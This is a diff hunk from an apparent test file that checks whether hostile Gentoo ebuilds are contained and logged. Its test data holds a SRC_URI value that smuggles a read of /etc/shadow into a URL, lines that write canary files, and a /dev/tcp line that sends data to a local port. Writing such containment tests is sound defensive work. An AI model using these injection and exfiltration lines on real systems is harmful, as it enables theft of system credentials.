@@ -209,7 +209,7 @@ test("hostile ebuilds are contained and named in the log, while the server answe
   const port = typeof address === "object" ? address?.port : 0;
   const canary = folder.file("canary");
   const theft = [
-    'SRC_URI="https://example.org/$(< /etc/shadow)"',
+    'SRC_URI="http://127.0.0.1:9/$(< /etc/shadow)"',
     `echo stolen > ${canary}; echo stolen > "\${0}"; echo stolen > /tmp/canary-of-portcache`,
     `exec 9<>/dev/tcp/127.0.0.1/${port}; echo stolen >&9`,
   ];
